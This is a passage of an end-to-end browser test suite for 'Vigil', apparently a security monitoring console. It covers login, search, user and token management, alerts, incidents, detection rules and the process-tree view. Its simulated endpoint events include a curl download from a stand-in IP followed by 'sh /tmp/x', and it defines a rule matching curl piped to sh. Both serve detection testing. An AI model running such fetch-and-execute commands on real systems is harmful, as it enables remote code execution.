// console.test.mjs - end-to-end tests of the Vigil console in Debian's headless Chromium against a
// real vigild: first-admin setup and login, ingest through the API and search (autocomplete, row
// expansion, pivot, CSV export, deep link), the overview's charts, users, tenants and API tokens
// created through the UI, audit chain verification, role-aware and grouped navigation, the dark
// theme, a real agent's process tree, a customer viewer who never sees another tenant's data,
// tenant settings and the provider overview, a customer approver approving an action requested
// from an incident, incident evidence and audit history, reports run and downloaded, a retro-hunt
// started from its screen and followed into the search, asset criticality, rule exceptions and
// suppressions, built-in rules (detect.rules_dir) listed read-only with an exception added, the
// playbooks screen (create, edit, disable, delete, read-only for tier1), and no
// Content-Security-Policy violation anywhere. Steps run in order and share one server and browser;
// a screenshot of each main screen goes to tests/screenshots/.
import assert from 'node:assert/strict';
import childProcess from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { chromium } from 'playwright-core';
import { Agent, apiClient, apiLogin, BUILTIN_RULE, consoleDir, findAgent, request, startStack } from './harness.mjs';

const SHOTS = path.join(consoleDir, 'tests/screenshots');
const ADMIN = { user: 'admin', pass: 'correct-horse-battery' };
const ANALYST = { user: 'analyst1', pass: 'analyst-password-1' };
const CHROMIUM = process.env.CHROMIUM ?? '/usr/bin/chromium';

const steps = [];
const step = (name, fn) => steps.push({ name, fn });

let stack;
let browser;
let context;
let page;
const cspViolations = [];
const pageErrors = [];

async function shot(name, p = page) {
  // from the top: a full-page capture of a scrolled page draws the sticky bars where they stuck
  await p.evaluate(() => window.scrollTo(0, 0));
  await p.screenshot({ path: path.join(SHOTS, `${name}.png`), fullPage: true });
}

async function newPage(ctx) {
  const p = await ctx.newPage();
  p.setDefaultTimeout(10000);
  p.on('console', (m) => {
    if (m.type() === 'error' && /Content Security Policy/i.test(m.text())) cspViolations.push(m.text());
  });
  p.on('pageerror', (e) => pageErrors.push(String(e)));
  return p;
}

async function login(p, who, landing = 'Overview') {
  await p.getByLabel('Username').fill(who.user);
  await p.getByLabel('Password').fill(who.pass);
  await p.getByRole('button', { name: 'Log in' }).click();
  await p.getByRole('heading', { name: landing }).waitFor();
}

// ---------------------------------------------------------------------------------------------

step('first-admin setup, then login', async () => {
  await page.goto(stack.base + '/');
  await page.getByRole('heading', { name: 'Set up Vigil' }).waitFor();
  await shot('setup');
  await page.getByLabel('Setup token').fill(stack.setupToken);
  await page.getByLabel('Username').fill(ADMIN.user);
  await page.getByLabel('Password', { exact: true }).fill(ADMIN.pass);
  await page.getByLabel('Confirm password').fill(ADMIN.pass);
  await page.getByRole('button', { name: 'Create administrator' }).click();
  await page.getByRole('heading', { name: 'Log in to Vigil' }).waitFor();
  // a wrong password is refused with a message
  await page.getByLabel('Username').fill(ADMIN.user);
  await page.getByLabel('Password').fill('not-the-password');
  await page.getByRole('button', { name: 'Log in' }).click();
  await page.getByRole('alert').waitFor();
  await shot('login');
  await login(page, ADMIN);
  const nav = page.getByRole('navigation', { name: 'Main' });
  for (const l of ['Overview', 'Search', 'Alerts', 'Incidents', 'Reports', 'Approvals', 'Users', 'Tenants', 'API tokens', 'Audit log'])
    assert.ok(await nav.getByRole('link', { name: l, exact: true }).isVisible(), `nav link ${l}`);
  // the navigation is grouped in labelled sections
  for (const g of ['Monitor', 'Investigate', 'Respond', 'Detect', 'Admin'])
    await nav.getByRole('list', { name: g }).waitFor();
  // setup is done: the API says so too
  const s = await request(stack.api, 'GET', '/api/v1/setup');
  assert.equal(s.json.needed, false);
});

const HOSTS = ['web-01', 'web-02', 'db-01'];
step('ingest events through the API with a token created through the API', async () => {
  const { cookie, csrf } = await apiLogin(stack.api, ADMIN.user, ADMIN.pass);
  const t = await request(stack.api, 'POST', '/api/v1/tokens', {
    body: JSON.stringify({ name: 'test-ingest', role: 'admin', tenant: 'default' }),
    headers: { Cookie: cookie, 'X-CSRF-Token': csrf, 'Content-Type': 'application/json' },
  });
  assert.ok(t.status === 200 || t.status === 201, t.text);
  assert.match(t.json.token, /^vgt_/);
  const lines = [];
  for (let i = 0; i < 12; i++) {
    const host = HOSTS[i % 3];
    lines.push(JSON.stringify({
      '@timestamp': new Date(Date.now() - i * 60000).toISOString(),
      event: { action: i % 4 === 0 ? 'ssh_login' : 'connection_attempted', category: 'network', outcome: i % 5 ? 'success' : 'failure' },
      host: { name: host },
      source: { ip: `10.0.0.${10 + (i % 4)}`, port: 40000 + i },
      destination: { ip: '192.168.1.5', port: i % 4 === 0 ? 22 : 443 },
      message: `test event ${i} from ${host}`,
    }));
  }
  const r = await request(stack.api, 'POST', '/api/v1/events', {
    body: lines.join('\n') + '\n',
    headers: { Authorization: `Bearer ${t.json.token}`, 'Content-Type': 'application/x-ndjson' },
  });
  assert.equal(r.status, 200, r.text);
  assert.equal(r.json.accepted, 12, r.text);
  assert.equal(r.json.rejected, 0, r.text);
});

step('overview renders the histogram and top lists', async () => {
  await page.goto(stack.base + '/');
  await page.getByRole('heading', { name: 'Overview' }).waitFor();
  await page.locator('.histogram canvas').first().waitFor();
  await page.getByTestId('count-events').filter({ hasText: '12' }).waitFor();
  const hosts = page.getByRole('region', { name: 'Top hosts' });
  for (const h of HOSTS) await hosts.getByRole('button', { name: h }).waitFor();
  await page.getByRole('region', { name: 'Top destination ports' }).getByRole('button', { name: '443' }).waitFor();
  await page.getByRole('region', { name: 'Top event actions' }).getByRole('button', { name: 'ssh_login' }).waitFor();
  await page.getByTestId('count-alerts').filter({ hasText: '0' }).waitFor();
  await page.locator('.ticker .pill.live').waitFor();
  // the chart actually drew bars: some canvas pixels are not transparent
  const painted = await page.locator('.histogram canvas').first().evaluate((c) => {
    const d = c.getContext('2d').getImageData(0, 0, c.width, c.height).data;
    let n = 0;
    for (let i = 3; i < d.length; i += 4) if (d[i] > 0) n++;
    return n;
  });
  assert.ok(painted > 100, `histogram canvas painted ${painted} pixels`);
  await shot('overview');
  // a top value pivots into the search screen
  await hosts.getByRole('button', { name: 'db-01' }).click();
  await page.getByRole('heading', { name: 'Event search' }).waitFor();
  assert.equal(new URL(page.url()).searchParams.get('q'), 'host.name:"db-01"');
  await page.getByTestId('result-count').filter({ hasText: '4 matching events' }).waitFor();
});

step('search with autocomplete, expand a row, pivot, export CSV, deep link', async () => {
  await page.goto(stack.base + '/search?range=1h');
  const q = page.getByRole('combobox', { name: 'Query' });
  await q.click();
  await q.pressSequentially('host.na');
  const opt = page.getByRole('option', { name: /host\.name/ });
  await opt.waitFor();
  await q.press('Tab');
  assert.equal(await q.inputValue(), 'host.name:');
  await q.pressSequentially('web-01');
  await q.press('Enter');
  await page.waitForURL(/q=host\.name%3Aweb-01/);
  await page.getByTestId('result-count').filter({ hasText: '4 matching events' }).waitFor();
  const rows = page.getByRole('table', { name: 'Events' }).locator('tbody > tr');
  assert.equal(await rows.count(), 4);
  // the histogram of matches is drawn
  await page.locator('.histogram canvas').first().waitFor();
  // expand the first row: the full event JSON is shown
  await page.getByRole('button', { name: 'Show event' }).first().click();
  const json = await page.getByLabel('Event JSON').textContent();
  const ev = JSON.parse(json);
  assert.equal(ev.host.name, 'web-01');
  assert.equal(ev.tenant.id, 'default');
  await shot('search-expanded');
  await page.getByRole('button', { name: 'Hide event' }).click();
  // pivot on an event.action value
  await page.getByRole('table', { name: 'Events' }).getByRole('button', { name: 'ssh_login' }).first().click();
  await page.waitForURL(/event\.action/);
  assert.equal(new URL(page.url()).searchParams.get('q'), 'host.name:web-01 and event.action:"ssh_login"');
  await page.getByTestId('result-count').filter({ hasText: /^1 matching events/ }).waitFor();
  // add a column through the chooser
  await page.getByText(/^Columns/).click();
  await page.getByRole('checkbox', { name: 'event.outcome' }).check();
  await page.waitForURL(/cols=/);
  await page.getByRole('columnheader', { name: 'event.outcome' }).waitFor();
  await page.getByText(/^Columns/).click();
  // CSV export of the table
  const [dl] = await Promise.all([page.waitForEvent('download'), page.getByRole('button', { name: 'Export CSV' }).click()]);
  const csv = fs.readFileSync(await dl.path(), 'utf8').trim().split('\r\n');
  assert.equal(csv.length, 2, csv.join('\n'));
  assert.ok(csv[0].startsWith('@timestamp,host.name,event.action'), csv[0]);
  assert.ok(csv[0].endsWith('event.outcome'), csv[0]);
  assert.match(csv[1], /,web-01,ssh_login,/);
  assert.ok(csv[1].endsWith(',success') || csv[1].endsWith(',failure'), csv[1]);
  // the URL is a deep link: reload keeps query, range and columns
  const url = page.url();
  await page.reload();
  await page.getByTestId('result-count').filter({ hasText: /^1 matching events/ }).waitFor();
  assert.equal(await page.getByRole('combobox', { name: 'Query' }).inputValue(), 'host.name:web-01 and event.action:"ssh_login"');
  assert.equal(await page.getByLabel('Time range').inputValue(), '1h');
  assert.equal(page.url(), url);
  await page.getByRole('columnheader', { name: 'event.outcome' }).waitFor();
  // dragging across the histogram narrows the range to a custom one covering the drag
  await page.goto(stack.base + '/search?q=host.name%3Aweb-01&range=1h');
  await page.getByTestId('result-count').filter({ hasText: '4 matching events' }).waitFor();
  const over = await page.locator('.histogram .u-over').boundingBox();
  const y = over.y + over.height / 2;
  await page.mouse.move(over.x + over.width * 0.5, y);
  await page.locator('.histogram figcaption').filter({ hasText: /: \d+$/ }).waitFor();
  await page.mouse.down();
  await page.mouse.move(over.x + over.width * 0.75, y, { steps: 5 });
  await page.mouse.move(over.x + over.width - 1, y, { steps: 5 });
  await page.mouse.up();
  await page.waitForURL(/range=custom/);
  const params = new URL(page.url()).searchParams;
  const from = Date.parse(params.get('from'));
  const to = Date.parse(params.get('to'));
  assert.ok(to > from, `${params}`);
  const hourAgo = Date.now() - 3600e3;
  assert.ok(from > hourAgo + 25 * 60e3 && from < hourAgo + 35 * 60e3, `from ${params.get('from')} near the middle of the hour`);
  assert.equal(await page.getByLabel('Time range').inputValue(), 'custom');
  await page.getByLabel('From').waitFor();
  await page.getByTestId('result-count').filter({ hasText: '4 matching events' }).waitFor();
  // a broken query shows the server's error
  await page.getByRole('combobox', { name: 'Query' }).fill('host.name:(');
  await page.getByRole('combobox', { name: 'Query' }).press('Enter');
  await page.getByRole('alert').filter({ hasText: 'query' }).waitFor();
  // back to a useful state for the screenshot
  await page.goto(stack.base + '/search?range=24h');
  await page.getByTestId('result-count').filter({ hasText: '12 matching events' }).waitFor();
  await shot('search');
});

step('create a user through the UI, change the role, disable and enable', async () => {
  await page.getByRole('link', { name: 'Users', exact: true }).click();
  await page.getByRole('heading', { name: 'Users' }).waitFor();
  const form = page.getByRole('region', { name: 'Add a user' });
  await form.getByLabel('Username').fill(ANALYST.user);
  await form.getByLabel('Password').fill(ANALYST.pass);
  await form.getByLabel('Role').selectOption('tier2');
  await form.getByRole('button', { name: 'Add user' }).click();
  const row = page.getByRole('table', { name: 'Users' }).getByRole('row').filter({ hasText: ANALYST.user });
  await row.waitFor();
  await row.getByRole('combobox', { name: `Role of ${ANALYST.user}` }).selectOption('tier1');
  await row.filter({ hasText: 'tier1' }).getByRole('combobox').waitFor();
  await row.getByRole('button', { name: 'Disable' }).click();
  await row.getByRole('button', { name: 'Enable' }).click();
  await row.getByRole('button', { name: 'Disable' }).waitFor();
  const { cookie } = await apiLogin(stack.api, ADMIN.user, ADMIN.pass);
  const users = await request(stack.api, 'GET', '/api/v1/users', { headers: { Cookie: cookie } });
  const u = users.json.users.find((x) => x.username === ANALYST.user);
  assert.equal(u.role, 'tier1');
  assert.equal(u.disabled, false);
  await shot('users');
});

step('add a tenant through the UI', async () => {
  await page.getByRole('link', { name: 'Tenants', exact: true }).click();
  const form = page.getByRole('region', { name: 'Add a tenant' });
  await form.getByLabel('ID').fill('acme');
  await form.getByLabel('Name').fill('Acme Corp');
  await form.getByRole('button', { name: 'Add tenant' }).click();
  await page.getByRole('table', { name: 'Tenants' }).getByRole('row').filter({ hasText: 'Acme Corp' }).waitFor();
  await shot('tenants');
});

step('create an API token through the UI (shown once, works), then revoke it', async () => {
  await page.getByRole('link', { name: 'API tokens', exact: true }).click();
  const form = page.getByRole('region', { name: 'Create a token' });
  await form.getByLabel('Name').fill('ui-token');
  await form.getByLabel('Role').selectOption('tier1');
  await form.getByRole('button', { name: 'Create token' }).click();
  const token = (await page.getByTestId('new-token').textContent()).trim();
  assert.match(token, /^vgt_[0-9a-f]{20,}$/);
  await page.getByRole('table', { name: 'API tokens' }).getByRole('row').filter({ hasText: 'ui-token' }).waitFor();
  await shot('tokens');
  const me = await request(stack.api, 'GET', '/api/v1/me', { headers: { Authorization: `Bearer ${token}` } });
  assert.equal(me.status, 200, me.text);
  assert.equal(me.json.role, 'tier1');
  await page.getByRole('button', { name: 'Done' }).click();
  assert.equal(await page.getByTestId('new-token').count(), 0);
  await page.getByRole('button', { name: 'Revoke token ui-token' }).click();
  await page.getByRole('button', { name: 'Confirm revoke' }).click();
  await page.getByRole('button', { name: 'Revoke token ui-token' }).waitFor({ state: 'detached' });
  const after = await request(stack.api, 'GET', '/api/v1/me', { headers: { Authorization: `Bearer ${token}` } });
  assert.equal(after.status, 401);
});

step('audit log lists the changes and the chain verifies', async () => {
  await page.getByRole('link', { name: 'Audit log', exact: true }).click();
  const table = page.getByRole('table', { name: 'Audit log' });
  await table.getByRole('row').filter({ hasText: 'user.create' }).first().waitFor();
  await page.getByRole('button', { name: 'Verify chain' }).click();
  const res = page.getByTestId('verify-result');
  await res.waitFor();
  assert.match(await res.textContent(), /^Chain intact: \d+ rows verified$/);
  await shot('audit');
});

step('alerts and incidents lists render (empty for now)', async () => {
  await page.getByRole('link', { name: 'Alerts', exact: true }).click();
  await page.getByText('No alerts yet').waitFor();
  await page.getByRole('link', { name: 'Incidents', exact: true }).click();
  await page.getByText('No incidents yet').waitFor();
});

// An agent's process events: sshd -> bash -> the marker command -> sh, plus the marker's file and
// network activity. Entity ids as the agent makes them (32 hex digits).
const ent = (n) => n.toString(16).padStart(32, 'c');
const E = [ent(1), ent(2), ent(3), ent(4)];
function procEvent(i, name, exe, cmd, parent, ancestry, dt) {
  return {
    '@timestamp': new Date(Date.now() - 60000 + dt * 1000).toISOString(),
    agent: { id: 'a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0' },
    host: { name: 'endpoint-7' },
    event: { category: 'process', type: 'start', action: 'exec' },
    process: { entity_id: E[i], pid: 1000 + i, name, executable: exe, command_line: cmd,
      ...(parent ? { parent: { entity_id: parent, pid: 1000 + i - 1 } } : {}), ancestry },
    user: { name: 'alice', id: '1000' },
  };
}
const AGENT_EVENTS = [
  procEvent(0, 'sshd', '/usr/sbin/sshd', 'sshd: alice [priv]', null, [], 0),
  procEvent(1, 'bash', '/usr/bin/bash', '-bash', E[0], [E[0]], 1),
  procEvent(2, 'curl', '/usr/bin/curl', 'curl -s http://198.51.100.7/vigil-console-marker -o /tmp/x', E[1], [E[1], E[0]], 2),
  procEvent(3, 'sh', '/usr/bin/sh', 'sh /tmp/x', E[2], [E[2], E[1], E[0]], 3),
  { '@timestamp': new Date(Date.now() - 57000).toISOString(), agent: { id: 'a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0' }, host: { name: 'endpoint-7' },
    event: { category: 'file', type: 'creation', action: 'create' }, file: { path: '/tmp/x' }, process: { entity_id: E[2], pid: 1002, name: 'curl' } },
  { '@timestamp': new Date(Date.now() - 57500).toISOString(), agent: { id: 'a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0a0' }, host: { name: 'endpoint-7' },
    event: { category: 'network', type: 'start', action: 'connection_attempted' }, network: { transport: 'tcp' },
    source: { ip: '10.1.2.3', port: 51000 }, destination: { ip: '198.51.100.7', port: 80 }, process: { entity_id: E[2], pid: 1002, name: 'curl' } },
];

step('an injected event raises an alert that appears live in the queue; bulk acknowledge', async () => {
  const { cookie, csrf } = await apiLogin(stack.api, ADMIN.user, ADMIN.pass);
  const hdr = { Cookie: cookie, 'X-CSRF-Token': csrf };
  const rule = [
    'title: Console test download marker', 'id: 5b0c1e6e-3f7a-4c55-9a0d-8f1d2c3b4a51', 'status: test', 'level: high',
    'tags: [attack.execution, attack.t1105]',
    'logsource: {product: linux, category: process_creation}',
    'detection:', '  sel:', '    CommandLine|contains: vigil-console-marker', '  condition: sel', ''].join('\n');
  const rr = await request(stack.api, 'POST', '/api/v1/rules', { body: rule, headers: { ...hdr, 'Content-Type': 'application/yaml' } });
  assert.equal(rr.status, 201, rr.text);
  for (let i = 0; i < 100; i++) {
    const l = await request(stack.api, 'GET', '/api/v1/rules', { headers: hdr });
    if (!l.json.engine.pending && l.json.rules.every((x) => x.loaded)) break;
    await new Promise((res) => setTimeout(res, 100));
  }
  await page.getByRole('link', { name: 'Alerts', exact: true }).click();
  await page.getByText('No alerts yet').waitFor();
  await page.getByRole('status', { name: 'live updates: live' }).waitFor();
  const t = await request(stack.api, 'POST', '/api/v1/tokens', {
    body: JSON.stringify({ name: 'agent-like', role: 'ingest', tenant: 'default' }), headers: { ...hdr, 'Content-Type': 'application/json' } });
  const r = await request(stack.api, 'POST', '/api/v1/events', {
    body: AGENT_EVENTS.map((e) => JSON.stringify(e)).join('\n') + '\n',
    headers: { Authorization: `Bearer ${t.json.token}`, 'Content-Type': 'application/x-ndjson' },
  });
  assert.equal(r.json.accepted, AGENT_EVENTS.length, r.text);
  // no reload: the row arrives over the stream, marked new
  const table = page.getByRole('table', { name: 'Alerts' });
  await table.getByRole('link', { name: 'Console test download marker' }).waitFor();
  await table.locator('tr.fresh').first().waitFor();
  await shot('alerts');
  await page.getByRole('checkbox', { name: 'Select all' }).check();
  await page.getByTestId('selected-count').filter({ hasText: '1 selected' }).waitFor();
  await page.getByRole('button', { name: 'Acknowledge' }).click();
  await page.getByTestId('selected-count').filter({ hasText: '0 selected' }).waitFor();
  // the queue shows open alerts by default: the acknowledged one left it
  await page.getByText('Nothing matches the filters').waitFor();
  await page.getByLabel('Status').selectOption('all');
  await page.waitForURL(/status=all/);
  await table.getByRole('cell', { name: 'acknowledged' }).waitFor();
  const a = await request(stack.api, 'GET', '/api/v1/alerts?status=acknowledged', { headers: hdr });
  assert.equal(a.json.alerts.length, 1, a.text);
});

step('the alert page shows its event; the process tree renders around the agent process', async () => {
  await page.getByRole('table', { name: 'Alerts' }).getByRole('link', { name: 'Console test download marker' }).click();
  await page.getByRole('heading', { name: 'Console test download marker' }).waitFor();
  await page.getByTestId('alert-status').filter({ hasText: 'acknowledged' }).waitFor();
  await page.getByRole('button', { name: 'Close', exact: true }).click();
  await page.getByTestId('alert-status').filter({ hasText: 'closed' }).waitFor();
  await shot('alert');
  await page.getByRole('link', { name: 'process tree' }).click();
  await page.getByRole('heading', { name: 'Process tree' }).waitFor();
  const tree = page.getByRole('tree', { name: 'Process tree' });
  // ancestors, root first
  const anc = tree.getByRole('list', { name: 'Ancestors' });
  await anc.getByText('sshd', { exact: true }).waitFor();
  await anc.getByText('bash', { exact: true }).waitFor();
  // the process itself, opened, with its activity and its child
  await tree.getByText('curl -s http://198.51.100.7/vigil-console-marker -o /tmp/x').waitFor();
  const act = tree.getByRole('list', { name: 'Activity of pid 1002' });
  await act.getByText('create /tmp/x').waitFor();
  await act.getByText(/connection_attempted tcp 10\.1\.2\.3:51000 → 198\.51\.100\.7:80/).waitFor();
  await tree.getByRole('button', { name: 'Expand sh (pid 1003)' }).click();
  await tree.getByText('no child processes').waitFor();
  await shot('process-tree');
  // focus on the child: a deep link that keeps the whole chain
  await page.goto(stack.base + `/process?entity=${E[3]}&at=${encodeURIComponent(new Date().toISOString())}`);
  await tree.getByRole('list', { name: 'Ancestors' }).getByText('curl', { exact: true }).waitFor();
});

step('open the alert, create an incident, comment, add a task, close it', async () => {
  // a second, medium alert: below incidents.min_severity, so it is in no incident yet
  const { cookie, csrf } = await apiLogin(stack.api, ADMIN.user, ADMIN.pass);
  const hdr = { Cookie: cookie, 'X-CSRF-Token': csrf };
  const rule = ['title: Console test medium marker', 'id: 0f5e2b9c-1d7e-4a8b-9c3d-2e1f0a9b8c7d', 'status: test', 'level: medium',
    'logsource: {product: linux, category: process_creation}', 'detection:', '  sel:', '    CommandLine|contains: vigil-console-medium',
    '  condition: sel', ''].join('\n');
  assert.equal((await request(stack.api, 'POST', '/api/v1/rules', { body: rule, headers: { ...hdr, 'Content-Type': 'application/yaml' } })).status, 201);
  for (let i = 0; i < 100; i++) {
    const l = await request(stack.api, 'GET', '/api/v1/rules', { headers: hdr });
    if (!l.json.engine.pending && l.json.rules.every((x) => x.loaded)) break;
    await new Promise((res) => setTimeout(res, 100));
  }
  const ev = { ...procEvent(3, 'sh', '/usr/bin/sh', 'sh -c vigil-console-medium', E[2], [E[2], E[1], E[0]], 5) };
  ev.process = { ...ev.process, entity_id: ent(9) };
  const t = await request(stack.api, 'POST', '/api/v1/tokens', {
    body: JSON.stringify({ name: 'agent-like-2', role: 'ingest', tenant: 'default' }), headers: { ...hdr, 'Content-Type': 'application/json' } });
  const r = await request(stack.api, 'POST', '/api/v1/events', { body: JSON.stringify(ev) + '\n',
    headers: { Authorization: `Bearer ${t.json.token}`, 'Content-Type': 'application/x-ndjson' } });
  assert.equal(r.json.accepted, 1, r.text);
  await page.goto(stack.base + '/alerts?status=all');
  const link = page.getByRole('table', { name: 'Alerts' }).getByRole('link', { name: 'Console test medium marker' });
  await link.click();
  await page.getByRole('heading', { name: 'Console test medium marker' }).waitFor();
  await page.getByRole('button', { name: 'Create incident' }).click();
  await page.waitForURL(/\/incident\?id=\d+/);
  await page.getByRole('heading', { name: 'Console test medium marker' }).waitFor();
  await page.getByTestId('incident-status').filter({ hasText: 'new' }).waitFor();
  await page.getByRole('button', { name: 'Acknowledge' }).click();
  await page.getByTestId('incident-status').filter({ hasText: 'acknowledged' }).waitFor();
  await page.getByRole('textbox', { name: 'Comment', exact: true }).fill('Benign admin test from the console');
  await page.getByRole('button', { name: 'Add comment' }).click();
  await page.getByRole('list', { name: 'Comments' }).getByText('Benign admin test from the console').waitFor();
  await page.getByRole('textbox', { name: 'Task', exact: true }).fill('Confirm with the host owner');
  await page.getByRole('button', { name: 'Add task' }).click();
  // the box reflects the server: it turns checked once the change is stored
  await page.getByRole('list', { name: 'Tasks' }).getByRole('checkbox', { name: 'Confirm with the host owner' }).click();
  await page.getByRole('list', { name: 'Tasks' }).getByRole('checkbox', { name: 'Confirm with the host owner', checked: true }).waitFor();
  await page.getByRole('textbox', { name: 'Value', exact: true }).fill('198.51.100.7');
  await page.getByRole('button', { name: 'Add observable' }).click();
  await page.getByRole('list', { name: 'Observables' }).getByText('198.51.100.7').waitFor();
  await page.getByLabel('Resolution').selectOption('benign');
  await page.getByRole('button', { name: 'Close incident' }).click();
  await page.getByTestId('incident-status').filter({ hasText: 'closed (benign)' }).waitFor();
  const tl = page.getByRole('list', { name: 'Timeline' });
  await tl.getByText('incident.comment').waitFor();
  await tl.getByText(/new -> acknowledged/).waitFor();
  await shot('incident');
  // the list shows it under "closed"; the alert page links to it
  await page.goto(stack.base + '/incidents?status=closed');
  await page.getByRole('table', { name: 'Incidents' }).getByRole('link', { name: 'Console test medium marker' }).waitFor();
  await shot('incidents');
  await page.goto(stack.base + '/alerts?status=all');
  await link.click();
  await page.getByText(/^In incident/).waitFor();
});

step('rules: validate, test against events, save; the ATT&CK matrix shows the coverage', async () => {
  await page.goto(stack.base + '/rules');
  await page.getByRole('heading', { name: 'Rules', exact: true }).waitFor();
  const yaml = page.getByRole('textbox', { name: 'Rule YAML' });
  await yaml.fill('title: broken\nlogsource: {product: linux}\ndetection:\n  sel:\n    Image|nosuchmod: x\n  condition: sel\n');
  await page.getByRole('button', { name: 'Validate' }).click();
  await page.getByTestId('validation').filter({ hasText: /nosuchmod/ }).waitFor();
  await yaml.fill([
    'title: Console editor curl pipe shell', 'id: 7b1e7c5a-7d0e-4b8c-8f1a-3c2d1e0f9a8b', 'status: test', 'level: high',
    'tags: [attack.execution, attack.t1059.004]', 'logsource: {product: linux, category: process_creation}',
    'detection:', '  sel:', "    CommandLine|contains|all: ['curl', '| sh']", '  condition: sel', ''].join('\n'));
  await page.getByRole('button', { name: 'Validate' }).click();
  await page.getByTestId('validation').filter({ hasText: 'Valid detection rule' }).waitFor();
  await page.getByRole('button', { name: 'Test', exact: true }).click();
  await page.getByTestId('test-result-0').filter({ hasText: 'matched Console editor curl pipe shell' }).waitFor();
  await page.getByTestId('test-result-1').filter({ hasText: 'no match' }).waitFor();
  await page.getByRole('button', { name: 'Save rule' }).click();
  await page.getByRole('table', { name: 'Rules' }).getByRole('cell', { name: 'Console editor curl pipe shell', exact: true }).waitFor();
  await shot('rules');
  // disable it from the list: the server says so
  await page.getByRole('checkbox', { name: 'Enabled: Console editor curl pipe shell' }).click();
  await page.getByRole('checkbox', { name: 'Enabled: Console editor curl pipe shell', checked: false }).waitFor();
  const bundle = path.join(consoleDir, '../../shared/data/attack/enterprise-attack.json');
  if (fs.existsSync(bundle)) {
    const { cookie, csrf } = await apiLogin(stack.api, ADMIN.user, ADMIN.pass);
    const imp = await request(stack.api, 'POST', '/api/v1/attack/import', { body: JSON.stringify({ path: bundle }),
      headers: { Cookie: cookie, 'X-CSRF-Token': csrf, 'Content-Type': 'application/json' } });
    assert.equal(imp.status, 200, imp.text);
    await page.goto(stack.base + '/attack');
    const m = page.getByRole('table', { name: 'ATT&CK matrix' });
    await m.getByRole('columnheader', { name: 'execution' }).waitFor();
    // the enabled marker rule tags T1105; the editor's rule (T1059.004) was just disabled
    await m.getByRole('cell', { name: /T1105 Ingress Tool Transfer \(1\)/ }).waitFor();
    assert.equal(await m.getByRole('cell', { name: /^T1059 Command and Scripting Interpreter \(/ }).count(), 0);
    await page.getByTestId('coverage').filter({ hasText: /^[1-9]\d* techniques covered/ }).waitFor();
    await shot('attack');
  } else {
    console.log('     (ATT&CK matrix part skipped: ../shared/data/attack is absent)');
  }
});

step('agents, enrolment tokens, notifications and intel screens', async () => {
  await page.goto(stack.base + '/agents');
  await page.getByRole('heading', { name: 'Agents' }).waitFor();
  await page.getByText(/No agent has enrolled yet/).waitFor();
  const et = page.getByRole('region', { name: 'Enrolment tokens' });
  await et.getByLabel('Name').fill('laptops');
  await et.getByRole('button', { name: 'Create token' }).click();
  await page.getByTestId('enroll-token').filter({ hasText: /^vge_/ }).waitFor();
  await et.getByRole('table', { name: 'Enrolment tokens' }).getByRole('cell', { name: 'laptops' }).waitFor();
  await shot('agents');
  await page.goto(stack.base + '/notifications');
  await page.getByRole('heading', { name: 'Notifications' }).waitFor();
  const form = page.getByRole('region', { name: 'Add a route' });
  await form.getByLabel('Name').fill('night shift');
  await form.getByLabel('Target').fill('http://127.0.0.1:9/hook');
  await form.getByLabel('Hours').fill('22-06');
  await form.getByRole('button', { name: 'Add route' }).click();
  await page.getByRole('table', { name: 'Routes' }).getByRole('cell', { name: 'night shift' }).waitFor();
  await page.getByText('No dead letters').waitFor();
  await shot('notifications');
  await page.goto(stack.base + '/intel');
  await page.getByRole('heading', { name: 'Threat intelligence' }).waitFor();
  await page.getByText('No feeds yet').waitFor();
});

step('role-aware navigation for a tier1 analyst', async () => {
  const ctx = await browser.newContext({ ignoreHTTPSErrors: true, viewport: { width: 1400, height: 900 } });
  const p = await newPage(ctx);
  // a deep link survives the login: the analyst lands on /search with the query
  await p.goto(stack.base + '/search?q=host.name%3Adb-01&range=24h');
  await p.getByRole('heading', { name: 'Log in to Vigil' }).waitFor();
  await login(p, ANALYST, 'Event search');
  await p.getByTestId('result-count').filter({ hasText: '4 matching events' }).waitFor();
  const nav = p.getByRole('navigation', { name: 'Main' });
  assert.ok(await nav.getByRole('link', { name: 'Search', exact: true }).isVisible());
  for (const l of ['Users', 'API tokens', 'Audit log'])
    assert.equal(await nav.getByRole('link', { name: l, exact: true }).count(), 0, `tier1 must not see ${l}`);
  await p.goto(stack.base + '/users');
  await p.getByText(/may not open Users/).waitFor();
  await p.getByRole('button', { name: 'Log out' }).click();
  await p.getByRole('heading', { name: 'Log in to Vigil' }).waitFor();
  await ctx.close();
});

step('a new tab on the live session is logged in and can write (GET /me gives it the CSRF token)', async () => {
  const p = await newPage(context);
  await p.goto(stack.base + '/audit');
  await p.getByRole('heading', { name: 'Audit log' }).waitFor();
  // a state-changing request needs the CSRF token: the verify button posts
  await p.getByRole('button', { name: 'Verify chain' }).click();
  await p.getByTestId('verify-result').waitFor();
  await p.reload();
  await p.getByRole('heading', { name: 'Audit log' }).waitFor();
  await p.close();
});

step('dark theme follows prefers-color-scheme and the toggle', async () => {
  await page.emulateMedia({ colorScheme: 'dark' });
  await page.goto(stack.base + '/');
  await page.locator('.histogram canvas').first().waitFor();
  assert.equal(await page.evaluate(() => document.documentElement.dataset.theme), 'dark');
  const bg = await page.evaluate(() => getComputedStyle(document.body).backgroundColor);
  assert.equal(bg, 'rgb(15, 18, 22)');
  await shot('overview-dark');
  await page.goto(stack.base + '/search?range=24h&q=' + encodeURIComponent('not host.name:endpoint-7'));
  await page.getByTestId('result-count').filter({ hasText: '12 matching events' }).waitFor();
  await shot('search-dark');
  // auto -> light overrides the dark preference
  await page.getByRole('button', { name: /^Theme: auto/ }).click();
  // the theme is applied in an effect after the re-render: wait for it rather than race it
  await page.waitForFunction(() => document.documentElement.dataset.theme === 'light', null, { timeout: 5000 });
  await page.getByRole('button', { name: /^Theme: light/ }).click();
  await page.getByRole('button', { name: /^Theme: dark/ }).click();
  await page.emulateMedia({ colorScheme: 'light' });
});

step('keyboard: the navigation is reachable with Tab and opens a screen with Enter', async () => {
  await page.goto(stack.base + '/');
  await page.getByRole('heading', { name: 'Overview' }).waitFor();
  let found = false;
  for (let i = 0; i < 14 && !found; i++) {
    await page.keyboard.press('Tab');
    found = (await page.evaluate(() => document.activeElement?.textContent)) === 'Search';
  }
  assert.ok(found, 'Tab reaches the Search link');
  await page.keyboard.press('Enter');
  await page.getByRole('heading', { name: 'Event search' }).waitFor();
